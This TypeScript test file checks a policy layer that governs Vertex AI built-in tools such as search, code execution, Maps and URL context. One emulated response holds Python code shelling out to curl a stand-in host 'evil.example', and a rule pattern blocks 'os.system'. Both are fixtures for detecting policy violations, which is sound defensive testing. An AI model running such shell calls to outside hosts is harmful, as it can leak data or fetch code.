import type { Tool } from '@google/genai';
import { describe, expect, it } from 'vitest';
import { governBuiltinTools } from './builtin-tools';
import { governFunctions } from './govern-functions';
import { runGovernedChat } from './governed-chat';
import {
  genaiClient,
  MODEL,
  SUPPORT_IDENTITY,
  supportFunctions,
  supportGuard,
  supportScenario,
  trail,
  useEmulator,
} from './support-fixtures';
import { codeExecutionParts, functionCallPart, searchGrounding, textPart } from './vertex-emulator';

const emulators = useEmulator();

const CODE_POLICY = `
name: analysts-run-code
version: "1"
appliesTo: { tags: [vertex] }
rules:
  - id: code-needs-review
    effect: require_approval
    actions: ["execute:code_interpreter"]
    reason: "Code execution needs a reviewer"
`;

const QUERY_POLICY = `
name: what-builtins-may-do
version: "1"
appliesTo: { tags: [vertex] }
rules:
  - effect: allow
    actions: ["execute:code_interpreter"]
  - id: no-competitor-searches
    effect: deny
    actions: ["read:web_search"]
    conditions: { context: { query: { matches: "competitor" } } }
    reason: Searching for competitors is not allowed
  - id: no-shell-from-code
    effect: deny
    actions: ["execute:code_interpreter"]
    conditions: { context: { code: { matches: "os[.]system" } } }
    reason: Code may not run shell commands
`;

describe('built-in tools', () => {
  it('records a built-in call policy would have denied as it ran (a query, the code) as an observed deny', async () => {
    const { guard, store } = supportGuard([QUERY_POLICY]);
    const emulator = await emulators.start({
      script: [
        {
          parts: [
            textPart('Prices compared.'),
            ...codeExecutionParts('import os\nos.system("curl evil.example")', ''),
            ...codeExecutionParts('print(79.99 * 2)', '159.98'),
          ],
          groundingMetadata: searchGrounding(
            ['headphones return policy', 'competitor headphone prices'],
            [{ uri: 'https://acme.example/returns', title: 'Returns - ACME' }],
          ),
        },
      ],
    });
    const traceId = 'trace_builtins_judged';
    const builtins = await governBuiltinTools([{ googleSearch: {} }, { codeExecution: {} }], {
      guard,
      identity: SUPPORT_IDENTITY,
      traceId,
    });
    expect(builtins.removed).toEqual([]);
    const response = await genaiClient(emulator).models.generateContent({
      model: MODEL,
      contents: 'Compare prices',
      config: { tools: builtins.tools },
    });
    expect(emulator.problems).toEqual([]);
    expect(await builtins.recordBuiltinActivity(response)).toBe(3);
    expect(await builtins.recordBuiltinActivity(response)).toBe(3); // idempotent: ids from the response

    const events = await store.query({ traceId, order: 'asc' }).then((p) => p.events);
    const observed = events.filter((e) => e.type === 'outcome');
    expect(trail(observed).sort()).toEqual([
      'outcome execute:code_interpreter allow/observed',
      'outcome execute:code_interpreter deny/observed',
      'outcome read:web_search deny/observed',
    ]);
    const offers = events.filter((e) => e.type === 'decision');
    expect(trail(offers)).toEqual([
      'decision read:web_search allow',
      'decision execute:code_interpreter allow',
    ]);
    const search = observed.find((e) => e.action === 'read:web_search')!;
    expect(search).toMatchObject({
      kind: 'builtin_tool',
      framework: 'vertex',
      context: { tool: 'googleSearch', queries: ['headphones return policy', 'competitor headphone prices'] },
      reason:
        'observed in the response: Google ran it on its side, where MeshGuard cannot stop it; policy would not allow it: Searching for competitors is not allowed (rule no-competitor-searches)',
    });
    // Standalone: joined to the offer, it would take the offer's allow.
    expect(search.decisionId).not.toBe(offers[0]!.decisionId);
    const shell = observed.find((e) => e.effect === 'deny' && e.action === 'execute:code_interpreter')!;
    expect(shell.reason).toMatch(/policy would not allow it: Code may not run shell commands/);
    const fine = observed.find((e) => e.effect === 'allow')!;
    expect(fine).toMatchObject({ decisionId: offers[1]!.decisionId, context: { code: 'print(79.99 * 2)' } });
  });

  it('removes what policy denies before the request, and records the search the model ran', async () => {
    const { guard, store } = supportGuard();
    const { functions } = supportFunctions();
    const emulator = await emulators.start({
      script: [
        {
          parts: [functionCallPart('get_order_details', { order_id: 'ORD-1' }, { id: 'o1' })],
        },
        {
          parts: [textPart('Our return window is 30 days [1].')],
          groundingMetadata: searchGrounding(
            ['acme headphones return policy'],
            [{ uri: 'https://acme.example/returns', title: 'Returns - ACME' }],
          ),
        },
      ],
    });
    const traceId = 'trace_builtins';
    const governed = governFunctions({ guard, identity: SUPPORT_IDENTITY, functions, traceId });
    const tools: Tool[] = [
      { googleSearch: {} },
      { codeExecution: {} },
      {
        retrieval: {
          vertexAiSearch: { datastore: 'projects/p/locations/global/collections/c/dataStores/faq' },
        },
      },
      governed.tool,
    ];
    const builtins = await governBuiltinTools(tools, { guard, identity: SUPPORT_IDENTITY, traceId });
    expect(builtins.removed).toEqual([
      {
        tool: 'codeExecution',
        action: 'execute:code_interpreter',
        reason: expect.stringMatching(/^Nothing allows "execute:code_interpreter"/),
      },
    ]);
    expect(builtins.tools).toHaveLength(3);
    expect(tools).toHaveLength(4); // the caller's array is left alone

    const chat = genaiClient(emulator).chats.create({ model: MODEL, config: { tools: builtins.tools } });
    const result = await runGovernedChat({
      chat,
      message: 'Return policy for ORD-1?',
      functions: governed,
      builtins,
    });
    expect(result.text).toBe('Our return window is 30 days [1].');
    expect(emulator.problems).toEqual([]);
    // What reached Vertex: no code execution.
    expect(emulator.requests[0]!.body.tools!.map((t) => Object.keys(t)[0])).toEqual([
      'googleSearch',
      'retrieval',
      'functionDeclarations',
    ]);
    // Recording the same response twice records nothing new (the event id comes from the response)...
    await builtins.recordBuiltinActivity(result.responses.at(-1));
    // ...but another trace seeing a response with the same id records its own activity.
    const other = await governBuiltinTools([{ googleSearch: {} }], {
      guard,
      identity: SUPPORT_IDENTITY,
      traceId: 'trace_other',
    });
    expect(await other.recordBuiltinActivity(result.responses.at(-1))).toBe(1);
    expect((await store.query({ traceId: 'trace_other', type: 'outcome' })).events).toHaveLength(1);

    const events = await store.query({ traceId, order: 'asc' }).then((p) => p.events);
    expect(trail(events)).toEqual([
      'decision read:web_search allow',
      'decision execute:code_interpreter deny',
      'outcome execute:code_interpreter deny/blocked',
      'decision read:file_search allow',
      'decision read:order_data allow',
      'outcome read:order_data allow/success',
      'outcome read:web_search allow/observed',
    ]);
    expect(events[0]).toMatchObject({
      kind: 'builtin_tool',
      context: { stage: 'offer', tool: 'googleSearch' },
    });
    expect(events[6]).toMatchObject({
      kind: 'builtin_tool',
      decisionId: events[0]!.decisionId,
      id: expect.stringMatching(/^vertex:[0-9a-f]{32}:0$/),
      context: {
        tool: 'googleSearch',
        queries: ['acme headphones return policy'],
        sources: [{ uri: 'https://acme.example/returns', title: 'Returns - ACME' }],
      },
    });
  });

  it('never offers a tool that needs approval (Google cannot pause it), and records code it saw run', async () => {
    const { guard, store } = supportGuard([CODE_POLICY]);
    const traceId = 'trace_code';
    const builtins = await governBuiltinTools([{ codeExecution: {}, googleSearch: {} }], {
      guard,
      identity: SUPPORT_IDENTITY,
      traceId,
    });
    expect(builtins.tools).toEqual([{ googleSearch: {} }]);
    expect(builtins.removed[0]!.reason).toBe(
      'Code execution needs a reviewer (rule code-needs-review) (Google runs codeExecution itself: nothing can pause it for approval, so it is not offered)',
    );
    // A response where code ran anyway (the tool added back behind MeshGuard): recorded as
    // observed activity, joined to the decision that kept it out.
    const recorded = await builtins.recordBuiltinActivity({
      responseId: 'r-1',
      candidates: [
        {
          content: {
            role: 'model',
            parts: [
              ...codeExecutionParts('print(79.99 * 2)', '159.98'),
              ...codeExecutionParts('1/0', 'ZeroDivisionError', 'OUTCOME_FAILED'),
            ],
          },
        },
      ],
    });
    expect(recorded).toBe(2);
    const events = await store.query({ traceId, order: 'asc' }).then((p) => p.events);
    expect(trail(events)).toEqual([
      'decision execute:code_interpreter require_approval',
      'approval_requested execute:code_interpreter require_approval',
      // Nobody can approve a tool that is not offered: the request the check opened is withdrawn.
      'approval_cancelled execute:code_interpreter deny',
      'outcome execute:code_interpreter require_approval/blocked',
      'decision read:web_search allow',
      'outcome execute:code_interpreter require_approval/observed',
      'outcome execute:code_interpreter require_approval/observed',
    ]);
    expect(events[5]).toMatchObject({
      decisionId: events[1]!.decisionId,
      context: {
        tool: 'codeExecution',
        language: 'PYTHON',
        code: 'print(79.99 * 2)',
        result: 'OUTCOME_OK',
        output: '159.98',
      },
    });
    expect(events[6]).toMatchObject({
      error: 'code execution ended with OUTCOME_FAILED',
      context: { code: '1/0' },
    });
  });

  it('governs built-in tools however the request spells them, and never as function tools', async () => {
    // A host that lets every function tool through (`tool:*`) and turns web search off.
    const { guard, store } = supportGuard([
      `
name: functions-yes-web-no
version: "1"
appliesTo: { tags: [vertex] }
rules:
  - id: functions
    effect: allow
    actions: ["tool:*"]
  - id: no-web
    effect: deny
    actions: ["read:web_search"]
    reason: "No web search for support"
`,
    ]);
    const { governed } = supportScenario('trace_spelling');
    const emulator = await emulators.start({ tls: true, script: [{ parts: [textPart('Hello')] }] });
    const traceId = 'trace_spelling';
    // Vertex reads proto field names in either spelling, and the legacy SDK sends tools verbatim.
    const builtins = await governBuiltinTools<Record<string, unknown>>(
      [{ google_search: {} }, { google_search_retrieval: {} }, { urlContext: {} }, { googleMaps: {} }],
      { guard, identity: SUPPORT_IDENTITY, traceId },
    );
    expect(builtins.removed.map((r) => `${r.tool} ${r.action}`)).toEqual([
      'google_search read:web_search',
      'google_search_retrieval read:web_search',
      'urlContext read:url_context',
      'googleMaps read:maps',
    ]);
    const model = emulators.legacyModel(emulator, governed);
    await model.generateContent({
      contents: [{ role: 'user', parts: [{ text: 'hi' }] }],
      tools: builtins.tools as never,
    });
    expect(emulator.requests[0]!.body.tools ?? []).toEqual([]);
    const events = await store.query({ traceId, order: 'asc', type: 'decision' }).then((p) => p.events);
    expect(events.map((e) => `${e.action} ${e.effect}`)).toEqual([
      'read:web_search deny',
      'read:url_context deny',
      'read:maps deny',
    ]);
  });

  it('checks the built-in tools a CallableTool offers when the SDK asks for them', async () => {
    const { governed, ran, recorded, guard } = supportScenario('trace_callable_builtins');
    const emulator = await emulators.start({
      script: [
        { parts: [functionCallPart('get_order_details', { order_id: 'ORD-1' }, { id: 'c1' })] },
        { parts: [textPart('ORD-1 was delivered.')] },
      ],
    });
    // A host's CallableTool that also offers code execution (here: ours, with it added).
    const own = governed.callableTool();
    const sneaky = {
      tool: async () => ({ ...(await own.tool()), codeExecution: {} }),
      callTool: (calls: Parameters<typeof own.callTool>[0]) => own.callTool(calls),
    };
    const builtins = await governBuiltinTools([sneaky], {
      guard,
      identity: SUPPORT_IDENTITY,
      traceId: 'trace_callable_builtins',
    });
    expect(builtins.removed).toEqual([]); // nothing asked yet: the SDK calls tool() itself
    const response = await genaiClient(emulator).models.generateContent({
      model: MODEL,
      contents: 'Where is ORD-1?',
      config: { tools: builtins.tools as never },
    });
    expect(response.text).toBe('ORD-1 was delivered.');
    expect(ran).toEqual(['get_order_details ORD-1']);
    expect(emulator.problems).toEqual([]);
    // What reached Vertex: the declarations, not code execution.
    for (const request of emulator.requests) {
      expect(request.body.tools!.flatMap((t) => Object.keys(t))).toEqual(['functionDeclarations']);
    }
    expect(builtins.removed).toEqual([
      expect.objectContaining({ tool: 'codeExecution', action: 'execute:code_interpreter' }),
    ]);
    expect(trail(await recorded())).toEqual([
      'decision execute:code_interpreter deny',
      'outcome execute:code_interpreter deny/blocked',
      'decision read:order_data allow',
      'outcome read:order_data allow/success',
    ]);
  });

  it('records what Maps and URL context did, as observed activity of the tools it let in', async () => {
    const { guard, recorded } = supportScenario('trace_maps_urls', [
      `
name: places-and-pages
version: "1"
appliesTo: { tags: [vertex] }
rules:
  - effect: allow
    actions: ["read:maps", "read:url_context"]
`,
    ]);
    const emulator = await emulators.start({
      script: [
        {
          parts: [textPart('The store on Main St is open until 6pm; returns are described on the page.')],
          groundingMetadata: {
            groundingChunks: [{ maps: { uri: 'https://maps.google.com/?cid=1', title: 'ACME Main St' } }],
          },
          urlContextMetadata: {
            urlMetadata: [
              {
                retrievedUrl: 'https://acme.example/returns',
                urlRetrievalStatus: 'URL_RETRIEVAL_STATUS_SUCCESS',
              },
            ],
          },
        },
      ],
    });
    const builtins = await governBuiltinTools([{ googleMaps: {} }, { urlContext: {} }], {
      guard,
      identity: SUPPORT_IDENTITY,
      traceId: 'trace_maps_urls',
    });
    expect(builtins.removed).toEqual([]);
    // Streamed, so the metadata also has to survive the merge of the chunks.
    const chat = genaiClient(emulator).chats.create({
      model: MODEL,
      config: { tools: builtins.tools as Tool[] },
    });
    const { functions } = supportFunctions();
    const governed = governFunctions({
      guard,
      identity: SUPPORT_IDENTITY,
      functions,
      traceId: 'trace_maps_urls',
    });
    await runGovernedChat({
      chat,
      message: 'Is the Main St store open?',
      functions: governed,
      builtins,
      stream: true,
    });
    const events = await recorded();
    expect(trail(events)).toEqual([
      'decision read:maps allow',
      'decision read:url_context allow',
      'outcome read:maps allow/observed',
      'outcome read:url_context allow/observed',
    ]);
    expect(events[2]!.context).toEqual({
      tool: 'googleMaps',
      queries: [],
      sources: [{ uri: 'https://maps.google.com/?cid=1', title: 'ACME Main St' }],
    });
    expect(events[3]!.context).toEqual({
      tool: 'urlContext',
      urls: [{ url: 'https://acme.example/returns', status: 'URL_RETRIEVAL_STATUS_SUCCESS' }],
    });
  });

  it('says what is wrong with its input', async () => {
    const { guard } = supportGuard();
    await expect(governBuiltinTools({} as never, { guard, identity: SUPPORT_IDENTITY })).rejects.toThrow(
      /`tools` must be an array/,
    );
    await expect(governBuiltinTools([null as never], { guard, identity: SUPPORT_IDENTITY })).rejects.toThrow(
      /tools\[0\] is not a tool object/,
    );
  });
});
